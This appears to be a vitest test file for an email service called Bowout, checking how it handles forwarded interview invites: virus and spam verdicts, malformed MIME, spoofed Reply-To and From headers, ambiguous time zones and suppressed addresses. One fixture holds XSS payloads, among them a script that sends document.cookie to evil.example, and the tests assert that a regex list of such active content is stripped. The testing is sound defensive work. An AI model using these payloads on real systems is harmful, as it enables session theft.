import { describe, expect, it } from 'vitest';
import { SuppressingMailer } from '../../functions/adapters/suppressing-mailer.js';
import { processInboundMail } from '../../functions/domain/conversation/inbound.js';
import { caseIdFor } from '../../functions/domain/ids.js';
import { sweepNudges } from '../../functions/domain/nudges/sweep.js';
import { fixture, forwardAsAttachment, received, replyMail } from '../support/mail.js';
import { MemorySuppressionList, memoryDeps } from '../support/memory-ports.js';

/**
 * What Bowout does with mail a careful attacker, a broken mailer or an unlucky calendar sends it: each
 * test states one of the situations docs/reliability.md lists, and the behaviour expected of it.
 */

const USER = 'sam.taylor@gmail.com';
type World = ReturnType<typeof memoryDeps>;
const encode = (text: string) => new TextEncoder().encode(text);

async function deliver(
  world: World,
  id: string,
  raw: string | Uint8Array,
  options: Parameters<typeof received>[1] = {},
) {
  world.rawMail.objects.set(id, typeof raw === 'string' ? encode(raw) : raw);
  return processInboundMail(received(id, { envelopeFrom: USER, ...options }), world.deps);
}

async function replyTo(
  world: World,
  to: string,
  id: string,
  body: string,
  headers: Record<string, string> = {},
) {
  return deliver(world, id, replyMail({ from: `Sam Taylor <${USER}>`, to, body, headers }), {
    recipients: [to],
  });
}

/** An invite forwarded as an attachment by the user; the original's From, headers and body as given. */
const forward = (inner: { from: string; headers?: string[]; contentType?: string; body: string }) =>
  forwardAsAttachment({ user: `Sam Taylor <${USER}>`, ...inner });

const INVITE_TEXT =
  'Hi Sam, your interview is on 10 December 2036 at 10:00 GMT.\r\n\r\nMaria Gonzalez, Contoso';

describe('a forward SES marked as carrying a virus or as spam', () => {
  it('gets no draft and no answer for a virus verdict, and its raw mail is not read but left to the bucket lifecycle', async () => {
    const world = memoryDeps();
    let reads = 0;
    const getRawMail = world.rawMail.getRawMail.bind(world.rawMail);
    world.deps.rawMail = {
      getRawMail: (id) => {
        reads++;
        return getRawMail(id);
      },
      deleteRawMail: (id) => world.rawMail.deleteRawMail(id),
    };
    const raw = forward({ from: 'Maria Gonzalez <maria.gonzalez@contoso.example>', body: INVITE_TEXT });
    expect(await deliver(world, 'ses-virus', raw, { verdicts: { virus: 'FAIL' } })).toBe('dropped-virus');
    expect(reads).toBe(0);
    expect(world.mailer.sent).toEqual([]);
    expect(world.cases.cases.size).toBe(0);
    expect(world.rawMail.objects.has('ses-virus')).toBe(true);
  });

  it('gets no draft and no answer for a spam verdict, even from an authenticated sender, and keeps its raw mail', async () => {
    const world = memoryDeps();
    const raw = forward({ from: 'Maria Gonzalez <maria.gonzalez@contoso.example>', body: INVITE_TEXT });
    expect(await deliver(world, 'ses-spam', raw, { verdicts: { spam: 'FAIL' } })).toBe('ignored-spam');
    expect(world.mailer.sent).toEqual([]);
    expect(world.cases.cases.size).toBe(0);
    expect(world.rawMail.objects.has('ses-spam')).toBe(true);
  });
});

describe('malformed MIME', () => {
  const head = `From: Sam Taylor <${USER}>\r\nTo: cancel@bowout.localhost\r\nSubject: Fwd: Interview\r\nDate: Wed, 2 Dec 2026 09:00:00 +0000\r\n`;
  const shapes: [string, Uint8Array][] = [
    [
      'a multipart whose closing boundary never comes',
      encode(
        `${head}MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n${INVITE_TEXT}\r\n--b\r\nContent-Type: text/plain\r\n\r\ncut short`,
      ),
    ],
    ['no Content-Type at all', encode(`${head}\r\n${INVITE_TEXT}\r\n`)],
    ['CR-only line endings', encode(`${head}\r\n${INVITE_TEXT}\r\n`.replaceAll('\r\n', '\r'))],
    [
      'an unknown charset',
      encode(`${head}Content-Type: text/plain; charset=x-unheard-of\r\n\r\n${INVITE_TEXT}\r\n`),
    ],
    [
      'raw 8-bit bytes in the headers',
      new Uint8Array([
        ...encode(`From: S\xe4m <${USER}>\r\nTo: cancel@bowout.localhost\r\nSubject: Fwd: `),
        0xc4,
        0xe9,
        0xff,
        ...encode(`\r\nDate: Wed, 2 Dec 2026 09:00:00 +0000\r\n\r\n${INVITE_TEXT}\r\n`),
      ]),
    ],
  ];

  it.each(shapes)(
    'is read best-effort or answered as unreadable, with at most one mail and the raw mail kept: %s',
    async (_shape, raw) => {
      const world = memoryDeps();
      const outcome = await deliver(world, 'ses-malformed', raw);
      expect(['drafted', 'not-an-invite', 'unreadable-answered']).toContain(outcome);
      expect(world.mailer.sent.length).toBe(1);
      expect(world.mailer.sent[0]?.to).toEqual([USER]);
      expect(world.rawMail.objects.has('ses-malformed')).toBe(true);
    },
  );

  it('answers "could not read that" once per sender, within the answer budget, then stays silent', async () => {
    const world = memoryDeps();
    const notMime = fixture('invites/not-mime.eml');
    const outcomes = [];
    for (let i = 0; i < 5; i++) outcomes.push(await deliver(world, `ses-broken-${i}`, notMime));
    expect(outcomes).toEqual([
      'unreadable-answered',
      'unreadable-unanswered',
      'unreadable-unanswered',
      'unreadable-unanswered',
      'unreadable-unanswered',
    ]);
    expect(world.mailer.sent).toHaveLength(1);
    // Another sender is answered.
    expect(await deliver(world, 'ses-other', notMime, { envelopeFrom: 'robin@example.org' })).toBe(
      'unreadable-answered',
    );
    for (let i = 0; i < 5; i++) expect(world.rawMail.objects.has(`ses-broken-${i}`)).toBe(true);
  });
});

describe('an employer address Bowout cannot trust', () => {
  it('leaves it empty for an address hidden in an encoded word, says so in the draft, and SEND sends nothing until TO gives one', async () => {
    const world = memoryDeps();
    const raw = forward({
      from: 'Contoso Careers <no-reply@contoso.example>',
      headers: ['Reply-To: =?utf-8?q?=40attacker.com?=@microsoft.com'],
      body: INVITE_TEXT,
    });
    expect(await deliver(world, 'ses-fwd', raw)).toBe('drafted');
    const [draft] = world.mailer.sent;
    const stored = world.cases.cases.get(caseIdFor('ses-fwd'));
    expect(stored?.facts.employer.email).toBeNull();
    expect(draft?.text).toContain(
      "I could not find the employer's email address (reply TO <address> to set it)",
    );
    expect(draft?.text).not.toMatch(/attacker|microsoft\.com/);

    const address = draft?.replyTo[0] ?? '';
    expect(await replyTo(world, address, 'ses-send-1', 'SEND')).toBe('send-no-recipient');
    const employerMail = () => world.mailer.sent.filter((m) => !m.to.includes(USER));
    expect(employerMail()).toEqual([]);
    expect(world.mailer.sent.at(-1)?.subject).toBe('Who should receive it?');

    // An address that was not in the forward waits for the user's CONFIRM.
    expect(await replyTo(world, address, 'ses-to', 'TO maria.gonzalez@contoso.example')).toBe(
      'to-needs-confirmation',
    );
    expect(await replyTo(world, address, 'ses-confirm', 'CONFIRM')).toBe('to-confirmed');
    expect(await replyTo(world, address, 'ses-send-2', 'SEND')).toBe('sent');
    expect(employerMail().map((m) => m.to)).toEqual([['maria.gonzalez@contoso.example']]);
  });

  it('takes no command from a mail with two From headers: SES and the parser may each read another sender', async () => {
    const world = memoryDeps();
    const raw = forward({ from: 'Maria Gonzalez <maria.gonzalez@contoso.example>', body: INVITE_TEXT });
    await deliver(world, 'ses-fwd', raw);
    const address = world.mailer.sent[0]?.replyTo[0] ?? '';
    // The parser reads the first From (the user's); SES's DMARC pass may be for the second (Mallory's own).
    const doubled = replyMail({ from: `Sam Taylor <${USER}>`, to: address, body: 'SEND' }).replace(
      `From: Sam Taylor <${USER}>\r\n`,
      `From: Sam Taylor <${USER}>\r\nFrom: mallory@evil.example\r\n`,
    );
    const outcome = await deliver(world, 'ses-doubled', doubled, {
      recipients: [address],
      envelopeFrom: 'mallory@evil.example',
    });
    expect(outcome).toBe('rejected-unauthenticated');
    expect(world.mailer.sent.filter((m) => m.to.includes('maria.gonzalez@contoso.example'))).toEqual([]);
  });
});

describe('a reply token outside the envelope', () => {
  it('drives nothing when it appears only in References: only an envelope recipient counts', async () => {
    const world = memoryDeps();
    const raw = forward({ from: 'Maria Gonzalez <maria.gonzalez@contoso.example>', body: INVITE_TEXT });
    await deliver(world, 'ses-fwd', raw);
    const address = world.mailer.sent[0]?.replyTo[0] ?? '';
    const reply = replyMail({
      from: `Sam Taylor <${USER}>`,
      to: 'cancel@bowout.localhost',
      body: 'SEND',
    }).replace('MIME-Version', `References: <${address}>\r\nIn-Reply-To: <${address}>\r\nMIME-Version`);
    expect(reply).toContain(`References: <${address}>`);
    const outcome = await deliver(world, 'ses-references', reply, {
      recipients: ['cancel@bowout.localhost'],
    });
    expect(outcome).not.toBe('sent');
    expect(world.mailer.sent.filter((m) => m.to.includes('maria.gonzalez@contoso.example'))).toEqual([]);
    expect(world.cases.cases.get(caseIdFor('ses-fwd'))?.state).toBe('DRAFTED');
  });
});

describe('a hostile HTML invite through the whole pipeline', () => {
  const html = [
    '<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/bg.png) }',
    '.hidden { display:none } p { width: expression(alert(1)) }</style>',
    '<script>fetch("https://evil.example/steal?c=" + document.cookie)</script></head>',
    '<body onload="alert(1)"><p>Hi Sam, your interview is on 10 December 2036 at 10:00 GMT.</p>',
    '<img src="https://tracker.example/open.gif?u=sam" width="1" height="1">',
    '<img src="x" onerror="alert(document.domain)">',
    '<p><a href="javascript:alert(1)">Confirm your slot</a> or <a href="jav&#x09;ascript:alert(2)">reschedule</a></p>',
    '<svg onload="alert(3)"><use href="https://evil.example/s.svg#x"/></svg>',
    '<iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/f"><input name="p"></form>',
    '<p style="position:fixed;top:0;left:0;width:100%;background:url(https://evil.example/o.png)">Maria Gonzalez, Contoso</p>',
    '<object data="https://evil.example/o.swf"></object></body></html>',
  ].join('\n');

  it('leaves nothing active or remote in the draft, in its HTML or its text', async () => {
    const world = memoryDeps();
    const raw = forward({
      from: 'Maria Gonzalez <maria.gonzalez@contoso.example>',
      contentType: 'text/html; charset=utf-8',
      body: html,
    });
    expect(await deliver(world, 'ses-html', raw)).toBe('drafted');
    const [draft] = world.mailer.sent;
    const written = `${draft?.html ?? ''}\n${draft?.text ?? ''}`;
    expect(draft?.html).toBeTruthy();
    for (const active of [
      /<script/i,
      /\bon(load|error)\s*=/i,
      /javascript:/i,
      /jav\s*ascript/i,
      /<iframe/i,
      /<object/i,
      /<form/i,
      /<svg/i,
      /<base/i,
      /<meta[^>]+refresh/i,
      /@import/i,
      /expression\(/i,
      /url\(/i,
      /<img/i,
      /evil\.example|tracker\.example/i,
    ])
      expect(written).not.toMatch(active);
    // Every link left is one Bowout wrote itself: mailto: for the user's own mail app.
    for (const [, href] of (draft?.html ?? '').matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^mailto:/);
    expect(draft?.text).toContain('10 December');
  });
});

describe('an interview time Bowout had to guess', () => {
  const invitation = (dtstart: string) =>
    forward({
      from: 'Maria Gonzalez <maria.gonzalez@contoso.example>',
      contentType: 'multipart/alternative; boundary="inner"',
      body: [
        '--inner',
        'Content-Type: text/plain; charset=utf-8',
        '',
        'Hi Sam, please join us for your interview (invitation attached). Maria Gonzalez, Contoso',
        '--inner',
        'Content-Type: text/calendar; charset=utf-8; method=REQUEST',
        '',
        'BEGIN:VCALENDAR',
        'VERSION:2.0',
        'PRODID:-//Contoso//Scheduler//EN',
        'METHOD:REQUEST',
        'BEGIN:VEVENT',
        'UID:contoso-interview-1@contoso.example',
        'SEQUENCE:0',
        'DTSTAMP:20261201T090000Z',
        dtstart,
        'DURATION:PT1H',
        'SUMMARY:Interview: Engineer at Contoso',
        'ORGANIZER;CN=Maria Gonzalez:mailto:maria.gonzalez@contoso.example',
        'ATTENDEE;CN=Sam Taylor;PARTSTAT=NEEDS-ACTION:mailto:sam.taylor@gmail.com',
        'END:VEVENT',
        'END:VCALENDAR',
        '--inner--',
      ].join('\r\n'),
    });

  it.each([
    ['an integer TZID', 'DTSTART;TZID=4:20361210T100000'],
    ['a TZID nobody defines', 'DTSTART;TZID=Contoso Standard Time:20361210T100000'],
    ['a floating DTSTART', 'DTSTART:20361210T100000'],
  ])(
    'shows the time as assumed in the draft and in the reminder timed from it: %s',
    async (_shape, dtstart) => {
      const world = memoryDeps();
      expect(await deliver(world, 'ses-ics', invitation(dtstart))).toBe('drafted');
      const stored = world.cases.cases.get(caseIdFor('ses-ics'));
      expect(stored?.facts.interview.start).toMatch(/^2036-12-10T/);
      expect(stored?.facts.interview.certain).toBe(false);
      expect(stored?.facts.uncertain).toContain('interview.start');
      expect(world.mailer.sent[0]?.text).toMatch(/Interview: .*\(partly assumed: please check\)/);

      // The urgent reminder is timed from that instant; the mail says the time is an assumption.
      const urgent = [...world.nudges.items.values()].find((n) => n.kind === 'not-sent-urgent');
      expect(urgent).toBeDefined();
      await sweepNudges(new Date(urgent?.dueAt ?? 0), { ...world.deps, checkpoint: world.checkpoint });
      const reminder = world.mailer.sent.find((m) => m.subject.startsWith('Your interview is coming up'));
      expect(reminder?.text).toMatch(/Your interview is on .*\(partly assumed: please check\)/);
    },
  );

  it('states a time read from a well-defined zone without any such warning', async () => {
    const world = memoryDeps();
    expect(await deliver(world, 'ses-ics', invitation('DTSTART;TZID=Europe/Berlin:20361210T100000'))).toBe(
      'drafted',
    );
    expect(world.cases.cases.get(caseIdFor('ses-ics'))?.facts.interview).toMatchObject({
      start: '2036-12-10T09:00:00.000Z',
      certain: true,
    });
    expect(world.mailer.sent[0]?.text).not.toContain('partly assumed');
  });
});

describe('a suppressed address', () => {
  it('gets no nudge: the sweep mails a user whose address bounced for good nothing at all', async () => {
    const world = memoryDeps();
    const raw = forward({ from: 'Maria Gonzalez <maria.gonzalez@contoso.example>', body: INVITE_TEXT });
    expect(await deliver(world, 'ses-fwd', raw)).toBe('drafted');
    const suppressions = new MemorySuppressionList(world.clock);
    await suppressions.suppress([
      {
        address: USER,
        reason: 'bounce',
        sesMessageId: 'feedback-1',
        reportedAt: world.clock.now().toISOString(),
      },
    ]);
    const mailer = new SuppressingMailer(world.mailer, suppressions, world.deps.log);
    const before = world.mailer.sent.length;
    const due = [...world.nudges.items.values()].map((n) => Date.parse(n.dueAt));
    expect(due.length).toBeGreaterThan(0);
    for (const at of due.sort())
      await sweepNudges(new Date(at), { ...world.deps, mailer, checkpoint: world.checkpoint });
    expect(world.mailer.sent.slice(before)).toEqual([]);
    expect(suppressions.lookups).toBeGreaterThanOrEqual(due.length);
  });
});

describe('raw mail after processing', () => {
  it('stays in the bucket after the message was processed for good, until the lifecycle rule removes it', async () => {
    const world = memoryDeps();
    const raw = forward({ from: 'Maria Gonzalez <maria.gonzalez@contoso.example>', body: INVITE_TEXT });
    expect(await deliver(world, 'ses-fwd', raw)).toBe('drafted');
    expect(await deliver(world, 'ses-fwd', raw)).toBe('duplicate');
    expect(world.messages.messages.get('ses-fwd')?.status).toBe('done');
    expect(world.rawMail.objects.get('ses-fwd')).toEqual(encode(raw));
  });
});
